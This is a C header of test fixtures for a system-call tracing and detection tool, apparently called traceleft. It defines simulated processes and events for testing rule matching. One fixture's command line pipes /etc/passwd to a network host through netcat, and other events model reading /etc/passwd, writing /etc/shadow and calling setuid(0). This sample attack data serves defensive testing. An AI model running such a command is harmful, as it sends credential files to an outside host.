/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Events of several types, for the tests of conditions and rules. */
#ifndef TRACELEFT_EXPRESSION_FIXTURE_H
#define TRACELEFT_EXPRESSION_FIXTURE_H

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>

#include "traceleft.h"
#include "util.h"

#define FIXTURE_TEXT(text)                                                           \
	{                                                                            \
		.data = "" text, .size = sizeof(text) - 1, .flags = TL_VALUE_PRESENT \
	}
#define FIXTURE_STRING(text)                                                     \
	{                                                                        \
		.data = "" text, .size = sizeof(text), .flags = TL_VALUE_PRESENT \
	}

static const struct tl_process fixture_parent = {
	.pid = 900,
	.executable = "/usr/sbin/sshd",
	.args = "sshd: alice [priv]",
	.args_size = 19,
	.n_args = 1,
	.working_directory = "/",
	.cgroup = "/system.slice/ssh.service",
	.unit = "ssh.service",
	.container_id = "",
	.comm = "sshd",
};

static const struct tl_process fixture_process = {
	.pid = 1234,
	.ppid = 900,
	.executable = "/usr/bin/dash",
	.args = "sh\0-c\0cat /etc/passwd | nc 10.1.2.3 80",
	.args_size = 39,
	.n_args = 3,
	.working_directory = "/home/alice",
	.cgroup = "/user.slice/user-1000.slice/session-3.scope",
	.unit = "session-3.scope",
	.container_id = "",
	.mntns = 4026531841,
	.netns = 4026531840,
	.pidns = 4026531836,
	.comm = "sh",
	.parent = &fixture_parent,
};

/* Of a process that nothing is known of. */
static const struct tl_process fixture_unknown = { .pid = 77, .flags = TL_PROCESS_UNKNOWN };

/* What a service does: no login. */
static const struct tl_process fixture_service = {
	.pid = 500,
	.ppid = 1,
	.executable = "/usr/sbin/nginx",
	.args = "nginx: worker process",
	.args_size = 22,
	.n_args = 1,
	.working_directory = "/",
	.cgroup = "/system.slice/nginx.service",
	.unit = "nginx.service",
	.container_id = "8d2b",
	.comm = "nginx",
};

static const struct tl_process fixture_child = { .pid = 1300, .ppid = 1234, .comm = "sh" };

/* 24 bytes of struct open_how: O_WRONLY | O_CREAT, mode 0600, RESOLVE_NO_SYMLINKS. */
static const uint64_t fixture_open_how[3] = { 0101, 0600, 4 };
static const uint8_t fixture_sockaddr_in[16] = { 2, 0, 0x01, 0xbb, 93, 184, 216, 34 };
static const uint8_t fixture_sockaddr_in6[28] = { 10, 0, 0x01, 0xbb, 0, 0, 0, 0, 0x20, 0x01, 0x0d, 0xb8,
						  0,  0, 0,    0,    0, 0, 0, 0, 0,    0,    0,	   1 };

#define FIXTURE_WHO FIXTURE_AS(1000)
#define FIXTURE_AS(effective)                                                                                  \
	.pid = 1234, .tid = 1235, .uid = 1000, .gid = 100, .euid = (effective), .egid = 100, .loginuid = 1000, \
	.audit_session = 3, .comm = "sh", .cpu = 1, .program_id = 7, .process = &fixture_process
#define FIXTURE_SERVICE                                                                               \
	.pid = 500, .tid = 500, .uid = 33, .gid = 33, .euid = 33, .egid = 33, .loginuid = UINT32_MAX, \
	.audit_session = UINT32_MAX, .comm = "nginx", .process = &fixture_service

static const struct fixture_event {
	const char *name; /* in the tests */
	const char *type;
	struct tl_event event;
} fixture_events[] = {
	/* openat(AT_FDCWD, "passwd", O_RDONLY | O_CLOEXEC) in /etc; the mode is what was in the register */
	{ "read-passwd",
	  "openat",
	  { FIXTURE_WHO, .ret = 3, .duration = 4200, .args = { 0xffffff9c, 0x7ffd1000, 02000000, 0xdeadbeef },
	    .captured = { [1] = FIXTURE_STRING("passwd") },
	    .file = { .path = FIXTURE_TEXT("/etc/passwd"),
		      .has_facts = true,
		      .inode = 131,
		      .mode = 0100644,
		      .uid = 0 } } },
	/* openat(5, "shadow", O_RDWR | O_CREAT | O_TRUNC, 0640) = -EACCES */
	{ "write-shadow",
	  "openat",
	  { FIXTURE_WHO, .ret = -EACCES, .args = { 5, 0x7ffd1000, 01102, 0640 },
	    .captured = { [1] = FIXTURE_STRING("shadow") },
	    .file = { .path = { "/etc/shadow", 11, TL_VALUE_PRESENT | TL_VALUE_CLAIM } } } },
	/* openat(AT_FDCWD, NULL, ...) = -EFAULT */
	{ "open-fault",
	  "openat",
	  { FIXTURE_WHO, .ret = -EFAULT, .args = { 0xffffff9c, 0, 0, 0 }, .captured = { [1] = { "", 0, 9 } } } },
	{ "open",
	  "open",
	  { FIXTURE_WHO, .ret = 4, .args = { 0x7ffd1000, 01, 0 }, .captured = { [0] = FIXTURE_STRING("/tmp/a.txt") },
	    .file = { .path = FIXTURE_TEXT("/tmp/a.txt") } } },
	{ "creat",
	  "creat",
	  { FIXTURE_WHO, .ret = 4, .args = { 0x7ffd1000, 0600 }, .captured = { [0] = FIXTURE_STRING("new") },
	    .file = { .path = FIXTURE_TEXT("/home/alice/new") } } },
	{ "openat2",
	  "openat2",
	  { FIXTURE_SERVICE, .ret = 5, .args = { 0xffffff9c, 0x7ffd1000, 0x7ffd2000, 24 },
	    .captured = { [1] = FIXTURE_STRING("log"), [2] = { (const char *)fixture_open_how, 24, TL_VALUE_PRESENT } },
	    .file = { .path = FIXTURE_TEXT("/var/log/nginx/access.log") } } },
	{ "read",
	  "read",
	  { FIXTURE_WHO, .ret = 20, .args = { 3, 0x7ffd1000, 18446744073709551615ULL },
	    .captured = { [1] = FIXTURE_TEXT("root:x:0:0\0root:/bin") },
	    .file = { .path = FIXTURE_TEXT("/etc/passwd") } } },
	{ "chown",
	  "chown",
	  { FIXTURE_WHO, .ret = -EPERM, .args = { 0x7ffd1000, 4294967295, 0 },
	    .captured = { [0] = FIXTURE_STRING("x") }, .file = { .path = FIXTURE_TEXT("/home/alice/x") } } },
	{ "rename",
	  "rename",
	  { FIXTURE_AS(0), .ret = 0, .args = { 1, 2 },
	    .captured = { FIXTURE_STRING("passwd+"), FIXTURE_STRING("passwd") },
	    .file = { .path = FIXTURE_TEXT("/etc/passwd+") }, .target = { .path = FIXTURE_TEXT("/etc/passwd") } } },
	{ "kill", "kill", { FIXTURE_WHO, .ret = -ESRCH, .args = { 0xffffffff, SIGKILL } } },
	{ "execve",
	  "execve",
	  { FIXTURE_WHO, .ret = -ENOENT, .args = { 1, 2, 3 },
	    .captured = { FIXTURE_STRING("/no/such"), FIXTURE_STRING("such\0--all\0now") },
	    .file = { .path = FIXTURE_TEXT("/no/such") } } },
	{ "setuid", "setuid", { FIXTURE_WHO, .ret = 0, .args = { 0 } } },
	{ "connect",
	  "connect",
	  { FIXTURE_WHO, .ret = 0, .args = { 3, 0x7ffd1000, 16 }, .has_socket = true, .socket_type = SOCK_STREAM,
	    .socket_protocol = IPPROTO_TCP,
	    .captured = { [1] = { (const char *)fixture_sockaddr_in, 16, TL_VALUE_PRESENT } },
	    .source = { AF_INET, 40000, { 10, 1, 2, 3 } }, .destination = { AF_INET, 443, { 93, 184, 216, 34 } } } },
	{ "connect6",
	  "connect",
	  { FIXTURE_SERVICE, .ret = -ECONNREFUSED, .args = { 3, 0x7ffd1000, 28 }, .has_socket = true,
	    .socket_type = SOCK_STREAM, .socket_protocol = IPPROTO_TCP,
	    .captured = { [1] = { (const char *)fixture_sockaddr_in6, 28, TL_VALUE_PRESENT } },
	    .source = { AF_INET6, 40000, { 0xfe, 0x80, [15] = 1 } },
	    .destination = { AF_INET6, 443, { 0x20, 0x01, 0x0d, 0xb8, [15] = 1 } } } },
	/* An IPv6 socket that speaks IPv4. */
	{ "mapped",
	  "connect",
	  { FIXTURE_WHO, .ret = 0, .has_socket = true,
	    .source = { AF_INET6, 1, { [10] = 0xff, [11] = 0xff, [12] = 127, [15] = 1 } },
	    .destination = { AF_INET6, 80, { [10] = 0xff, [11] = 0xff, [12] = 10, [15] = 9 } } } },
	{ "unix",
	  "connect",
	  { FIXTURE_WHO, .ret = 0, .has_socket = true, .has_peer = true, .peer_pid = 812, .peer_gid = 4,
	    .source = { .family = AF_UNIX }, .destination = { .family = AF_UNIX, .path = FIXTURE_TEXT("/run/dbus/system_bus_socket") } } },
	{ "exec",
	  "exec",
	  { FIXTURE_AS(0), .kind = TL_EVENT_EXEC,
	    .file = { .path = FIXTURE_TEXT("/usr/bin/sudo"), .mode = 0104755 } } },
	{ "fork", "fork", { FIXTURE_WHO, .kind = TL_EVENT_FORK, .child = &fixture_child } },
	{ "exit", "exit", { FIXTURE_WHO, .kind = TL_EVENT_EXIT, .exit_code = 2 << 8 } },
	{ "killed", "exit", { FIXTURE_WHO, .kind = TL_EVENT_EXIT, .exit_code = SIGKILL } },
	{ "unknown",
	  "unlink",
	  { .pid = 77,
	    .tid = 77,
	    .loginuid = UINT32_MAX,
	    .audit_session = UINT32_MAX,
	    .comm = "x",
	    .process = &fixture_unknown,
	    .file = { .path = FIXTURE_TEXT("/tmp/x") } } },
	{ "compat", "getppid", { FIXTURE_WHO, .abi = 1, .ret = 900 } },
};

/* The event of that name, with its type; false: there is none. */
static inline bool fixture_find(const char *name, struct tl_event *ret)
{
	for (size_t i = 0; i < ARRAY_SIZE(fixture_events); i++)
		if (strcmp(fixture_events[i].name, name) == 0) {
			*ret = fixture_events[i].event;
			ret->type = tl_event_type_find(fixture_events[i].type);
			return ret->type;
		}
	return false;
}

#endif
